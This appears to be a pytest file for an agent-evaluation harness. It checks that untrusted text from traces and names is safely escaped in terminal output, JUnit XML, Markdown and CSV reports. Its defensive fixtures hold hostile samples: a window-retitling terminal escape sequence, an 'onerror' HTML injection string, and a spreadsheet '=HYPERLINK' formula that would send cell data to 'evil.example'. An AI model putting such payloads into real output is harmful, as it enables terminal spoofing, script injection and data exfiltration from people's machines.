"""Text that is not plain readable Unicode, from a stranger's traces, reports, file names and command lines.

- A lone surrogate escape (`"\\ud800"`) is JSON `json.loads` reads, into a str no UTF-8 file can hold: writing the
  report of a trace that held one failed with a traceback, and left the report file empty. The trace readers replace
  it with U+FFFD and warn with file and line; `loads` replaces it too.
- A name that is not UTF-8 (a byte such as 0xff in a file name: Python holds it as a surrogate) reached the report,
  the lock file or the trace as text that cannot be written. A trace file so named is scored and its report written
  (the name as `\\udcff`); a scenario file so named, or such a word on the command line, is one error line.
- Control characters in an agent's name or answer (an escape sequence, NUL) reached the terminal as they are, and
  made the JUnit report XML that no reader accepts. The terminal and the JUnit report show them as escapes.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import REPO_ROOT, TRAVEL, run_main
from lxml import etree

from mcp_hazard.json_parse import loads
from mcp_hazard.terminal_text import MAX_LINE, visible
from mcp_hazard.trace.events import AnswerSubmitted
from mcp_hazard.trace.jsonl import json_records
from mcp_hazard.trace.reader import parse_trace
from mcp_hazard.trace.writer import event_line

from .test_runs import one_error

pytestmark = pytest.mark.e2e

HOSTILE_NAME = "ev\x1b]0;owned\x07il\x00"  # an escape sequence that retitles the terminal window, and a NUL
RAW_CONTROL = (b"\x1b", b"\x07", b"\x00")


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real run of one task, clean and under one hazard, by the recovering and the naive agent."""
    out = tmp_path_factory.mktemp("foreign") / "run"
    done = run_main("run", str(TRAVEL), "--task", "fare-class", "--hazard", "transient_error", "--agent", "recovering",
                    "--agent", "naive", "--transport", "memory", "--no-progress", "--out", str(out))  # fmt: skip
    assert done.returncode == 0, done.stderr
    return out


def _copy(run: Path, where: Path) -> Path:
    copy = where / "copy"
    shutil.copytree(run, copy, ignore=shutil.ignore_patterns("report.*", "run.lock"))
    return copy


def _edit(trace: Path, change: dict[str, object]) -> None:
    """Set `run.agent` (on the first line) or the final answer of `trace`; json.dumps escapes a lone surrogate as
    `\\ud800`, as a stranger's JSON writer may."""
    events = [json.loads(line) for line in trace.read_text().splitlines()]
    for event in events:
        if event["type"] == "episode_started" and "agent" in change:
            event["run"]["agent"] = change["agent"]
        if event["type"] == "answer_submitted" and "answer" in change:
            event["answer"] = change["answer"]
    trace.write_text("".join(json.dumps(event) + "\n" for event in events))


def _program(*args: str | bytes) -> subprocess.CompletedProcess[bytes]:
    """The real program, its output as bytes: what reaches a terminal, escape sequences and all."""
    done = subprocess.run([sys.executable, "-m", "mcp_hazard", *args], cwd=REPO_ROOT, stdin=subprocess.DEVNULL,
                          capture_output=True, timeout=120)  # fmt: skip
    assert b"Traceback" not in done.stderr, done.stderr.decode(errors="replace")[-2000:]
    return done


def test_loads_and_the_log_reader_replace_a_lone_surrogate() -> None:
    assert loads('{"a": "x\\ud800y", "\\udfff": ["\\ud83d\\ude00"]}') == {"a": "x\ufffdy", "\ufffd": ["\U0001f600"]}
    assert loads(b'"\\\\ud800"') == "\\ud800"  # an escaped backslash, then text: nothing to replace
    assert visible("a\x1b[2Jb\tc\nd\u202ee\udcff") == "a\\x1b[2Jb\tc\nd\\u202ee\\udcff"


def test_a_lone_surrogate_given_to_the_trace_writer_is_written_as_its_escape() -> None:
    """Whatever reaches an episode's trace (a peer's text, a name) cannot end the episode: the line stays valid JSON,
    and the reader puts U+FFFD in its place with a warning."""
    line = event_line(AnswerSubmitted, 3, "2026-01-01T00:00:00Z", {"answer": "x\ud800", "slot": 1})
    assert b"\\ud800" in line and line.endswith(b"\n")
    trace = parse_trace(line.decode("utf-8"), "t.jsonl")
    assert trace.events[0]["answer"] == "x\ufffd" and trace.warnings[0].startswith("t.jsonl:1: lone surrogate")


def test_log_records_with_a_lone_surrogate_are_read_with_u_fffd(tmp_path: Path) -> None:
    log = tmp_path / "run.jsonl"
    log.write_text('{"episode_id": "e\\ud800", "status": "done"}\n')
    assert json_records(log) == [{"episode_id": "e\ufffd", "status": "done"}]


def test_a_lone_surrogate_in_a_trace_is_a_warning_and_every_report_is_written(run: Path, tmp_path: Path) -> None:
    copy = _copy(run, tmp_path)
    trace = copy / "traces" / "recovering.travel.fare-class.clean.strict.s0.jsonl"
    _edit(trace, {"answer": "B\ud800"})
    assert "\\ud800" in trace.read_text()
    line = next(n for n, text in enumerate(trace.read_text().splitlines(), 1) if "answer_submitted" in text)
    for name in ("report.json", "report.html", "report.md"):
        done = run_main("score", str(copy), "--out", str(copy / name), "--per-episode", str(copy / "rows.csv"))
        assert done.returncode == 0, done.stderr[-2000:]
        assert f"{trace}:{line}: lone surrogate (\\ud800 to \\udfff) in 1 string(s), not Unicode text; replaced by " \
               "U+FFFD" in done.stderr  # fmt: skip
    rows = json.loads((copy / "report.json").read_text(encoding="utf-8"))["per_episode"]
    assert [row["answer"] for row in rows if row["trace"] == str(trace)] == ["B\ufffd"]
    assert "B\ufffd" in (copy / "rows.csv").read_text(encoding="utf-8")


def test_control_characters_reach_the_terminal_and_junit_as_escapes(run: Path, tmp_path: Path) -> None:
    copy = _copy(run, tmp_path)
    for trace in (copy / "traces").glob("naive.*.jsonl"):
        _edit(trace, {"agent": HOSTILE_NAME, "answer": "\x1b[2J\x1b[31mwiped"})
    fixed = tmp_path / "fixed"  # the same, but the hostile agent's clean episode keeps its right answer: a flip
    shutil.copytree(copy, fixed)
    clean = "naive.travel.fare-class.clean.strict.s0.jsonl"
    shutil.copy(run / "traces" / clean, fixed / "traces" / clean)
    _edit(fixed / "traces" / clean, {"agent": HOSTILE_NAME})
    for folder in (copy, fixed):
        assert run_main("score", str(folder), "--out", str(folder / "report.json")).returncode == 0
    for args in (("score", str(copy), "--verbose"), ("gate", str(copy), "--min", "overall=0.9", "--junit",
                 str(copy / "junit.xml")), ("diff", str(copy), str(fixed))):  # fmt: skip
        done = _program(*args)
        assert done.returncode in (0, 1), done.stderr.decode(errors="replace")[-2000:]
        assert not [c for c in RAW_CONTROL if c in done.stdout + done.stderr], done.stdout.decode(errors="replace")
        assert b"ev\\x1b]0;owned\\x07il\\x00" in done.stdout, done.stdout.decode(errors="replace")[-3000:]
    stray = copy / "traces" / "stray.jsonl"  # its scenario cannot be found: the warning quotes the id it names
    events = [json.loads(line) for line in (run / "traces" / clean).read_text().splitlines()]
    events[0]["scenario"] = {"id": "x\ny\x1b[2K", "path": "x\ny.yaml", "sha256": "0" * 64}
    stray.write_text("".join(json.dumps(event) + "\n" for event in events))
    done = _program("score", str(copy))
    assert done.returncode == 0 and not [c for c in RAW_CONTROL if c in done.stderr]
    quoted = [line for line in done.stderr.decode().splitlines() if "x\\ny\\x1b[2K" in line]
    assert len(quoted) == 1 and quoted[0].startswith("mcp-hazard: warning: ") and "1 trace not scored" in quoted[0]
    xml = etree.parse(str(copy / "junit.xml"))  # lxml refuses XML 1.0 that holds a control character
    names = {suite.get("name") for suite in xml.iter("testsuite")}
    assert "ev\\x1b]0;owned\\x07il\\x00.transient_error" in names, names
    assert any("\\x1b[2J\\x1b[31mwiped" in (failure.text or "") for failure in xml.iter("failure"))


def test_a_trace_file_name_not_in_utf8_is_scored_and_its_reports_written(run: Path, tmp_path: Path) -> None:
    copy = _copy(run, tmp_path)
    traces = bytes(copy / "traces")
    first = sorted(os.listdir(traces))[0]
    os.rename(os.path.join(traces, first), os.path.join(traces, b"\xff" + first))
    with open(os.path.join(traces, b"\xff" + first), "ab") as handle:
        handle.write(b'{"seq": 99, "cut')  # a damaged last line: its warning names the file
    for out in ("report.json", "report.html", "report.md"):
        done = _program("score", str(copy), "--verbose", "--out", str(copy / out))
        assert done.returncode == 0, done.stderr.decode(errors="replace")
        assert b"\\udcff" + first + b":" in done.stderr and b"truncated last line" in done.stderr
    rows = json.loads((copy / "report.json").read_text(encoding="utf-8"))["per_episode"]
    assert len(rows) == 4 and any(row["trace"].endswith("/\udcff" + first.decode()) for row in rows)
    assert b"\\udcff" in (copy / "report.html").read_bytes() + (copy / "report.md").read_bytes()
    shown = _program("score", str(copy), "--verbose")
    assert shown.returncode == 0 and b"\\udcff" + first in shown.stdout + shown.stderr


def test_a_scenario_file_name_or_a_command_word_not_in_utf8_is_one_error_line(tmp_path: Path) -> None:
    folder = os.path.join(bytes(tmp_path), b"scenarios")
    os.mkdir(folder)
    shutil.copy(TRAVEL, os.fsdecode(os.path.join(folder, b"tr\xffvel.yaml")))
    done = run_main("validate", os.fsdecode(folder))
    assert done.returncode == 2 and done.stderr.strip().splitlines() == [
        f"{os.fsdecode(folder)}/tr\\udcffvel.yaml: the file's name is not UTF-8 text, and traces and reports record "
        "it as text: rename the file"
    ], done.stderr
    for args in (("run", str(TRAVEL), "--out", bytes(tmp_path / "out") + b"\xff"), ("validate", os.path.join(
            folder, b"tr\xffvel.yaml"))):  # fmt: skip
        refused = _program(*args)
        text = refused.stderr.decode("utf-8")
        one_error(subprocess.CompletedProcess(args, refused.returncode, "", text), "\\udcff", "not UTF-8 text")
    assert sorted(os.listdir(tmp_path)) == ["scenarios"]  # nothing made for the refused run


def test_names_from_a_run_are_plain_text_in_the_markdown_of_diff_and_the_ci_summary(run: Path, tmp_path: Path) -> None:
    """An agent name and a trace path from a stranger's run, in the Markdown a CI job renders: no tag, no emphasis,
    no extra table column, no code span broken open."""
    agent = "<img src=x onerror=alert(1)>|**bold**"
    wrong, right = tmp_path / "wrong", tmp_path / "right"
    shutil.copytree(_copy(run, tmp_path), wrong)
    clean = "naive.travel.fare-class.clean.strict.s0.jsonl"
    for trace in (wrong / "traces").glob("naive.*.jsonl"):
        _edit(trace, {"agent": agent, "answer": "no idea"})
    shutil.copytree(wrong, right)
    shutil.copy(run / "traces" / clean, right / "traces" / clean)  # solved in `right` only
    _edit(right / "traces" / clean, {"agent": agent})
    for folder in (wrong, right):
        (folder / "traces" / clean).rename(folder / "traces" / "odd`|name.jsonl")
    for folder in (wrong, right):
        assert run_main("score", str(folder), "--out", str(folder / "report.json")).returncode == 0
    summary = tmp_path / "summary.md"
    done = run_main("diff", str(right), str(wrong), "--format", "markdown")
    gated = run_main("gate", str(wrong), "--baseline", str(right), env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert done.returncode == 0 and gated.returncode == 0, done.stderr + gated.stderr  # one flip: no evidence
    for text in (done.stdout, summary.read_text()):
        assert not re.search(r"(?<!\\)[<>]", text) and "\\<img src=x onerror=alert(1)\\>\\|\\*\\*bold\\*\\*" in text
        assert re.search(r"``/[^`]*/traces/odd`\\\|name\.jsonl``", text), text  # one code span, the pipe escaped
    rows = [line for line in done.stdout.splitlines() if line.startswith("| worse |")]
    assert len(rows) == 1 and rows[0].replace("\\|", "").count("|") == 7, rows


def test_a_byte_order_mark_before_a_trace_or_a_report_is_passed_over(run: Path, tmp_path: Path) -> None:
    """A trace or report.json saved by an editor that writes a byte order mark: the trace was skipped as `first line
    is not JSON (Expecting value)`, the report refused by `gate`. RFC 8259 lets a reader pass over the mark."""
    copy = _copy(run, tmp_path)
    trace = sorted((copy / "traces").glob("*.jsonl"))[0]
    trace.write_bytes(b"\xef\xbb\xbf" + trace.read_bytes())
    done = run_main("score", str(copy), "--out", str(copy / "report.json"))
    assert done.returncode == 0 and "warning" not in done.stderr, done.stderr
    report = copy / "report.json"
    assert json.loads(report.read_text())["episodes"] == 4
    report.write_bytes(b"\xef\xbb\xbf" + report.read_bytes())
    gated = run_main("gate", str(copy), "--min", "overall=0.1")
    assert gated.returncode == 0 and gated.stderr == "", gated.stderr


def test_an_answer_a_spreadsheet_would_run_is_text_in_the_csv(run: Path, tmp_path: Path) -> None:
    """An answer an agent was injected into giving, `=HYPERLINK(...)`, opened in a spreadsheet from the per-episode
    CSV, was a formula that sends a click's data away; it is written with a leading `'`. A negative number stays a
    number, and JSONL keeps the answer exactly."""
    copy = _copy(run, tmp_path)
    answers = {"naive.travel.fare-class.clean.strict.s0.jsonl": '=HYPERLINK("http://evil.example/?"&A1,"fare")',
               "recovering.travel.fare-class.transient_error.strict.s0.jsonl": "-5.25",
               "recovering.travel.fare-class.clean.strict.s0.jsonl": "@SUM(1+1)"}  # fmt: skip
    for name, answer in answers.items():
        _edit(copy / "traces" / name, {"answer": answer})
    for fmt in ("csv", "jsonl"):
        done = run_main("score", str(copy), "--per-episode", str(copy / f"rows.{fmt}"))
        assert done.returncode == 0, done.stderr
    with (copy / "rows.csv").open(newline="", encoding="utf-8") as handle:
        shown = {Path(row["trace"]).name: row["answer"] for row in csv.DictReader(handle)}
    exact = {Path(row["trace"]).name: row["answer"] for row in map(json.loads, (copy / "rows.jsonl").open())}
    for name, answer in answers.items():
        assert exact[name] == answer
        assert shown[name] == (answer if answer == "-5.25" else "'" + answer), shown[name]


def test_a_warning_quoting_a_huge_value_is_shown_by_its_ends(run: Path, tmp_path: Path) -> None:
    """A stranger's trace naming a task of 100,000 characters: its warning was 100 KB on one line, naming the trace
    twice. It is shown by its start and its end (which says what came of it), the trace named once."""
    copy = _copy(run, tmp_path)
    trace = copy / "traces" / "naive.travel.fare-class.clean.strict.s0.jsonl"
    events = [json.loads(line) for line in trace.read_text().splitlines()]
    events[0]["task"] = "y" * 100_000
    trace.write_text("".join(json.dumps(event) + "\n" for event in events))
    done = run_main("score", str(copy))
    assert done.returncode == 0, done.stderr[-3000:]
    (line,) = [line for line in done.stderr.splitlines() if str(trace) in line]
    assert line.startswith(f"mcp-hazard: warning: {trace}: cannot score: scenario 'travel' has no task 'yyy")
    assert line.count(str(trace)) == 1 and len(line) <= MAX_LINE + len("mcp-hazard: warning: ")
    assert " characters left out) … yyy" in line and line.endswith("yyy'")
